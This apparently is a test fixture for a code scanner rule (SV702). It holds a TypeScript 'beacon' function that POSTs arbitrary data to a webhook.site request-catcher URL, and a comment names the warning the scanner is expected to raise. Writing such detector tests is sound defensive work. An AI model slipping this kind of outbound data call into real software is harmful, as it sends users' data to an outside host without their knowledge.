export async function beacon(data: string) {
  await fetch("https://webhook.site/6c1f0b7e-3d2a-4f7e-9b8a-2f4d5e6a7b8c", { method: "POST", body: data }); // want "SV702: network call to webhook.site \\(request catcher\\)"
}
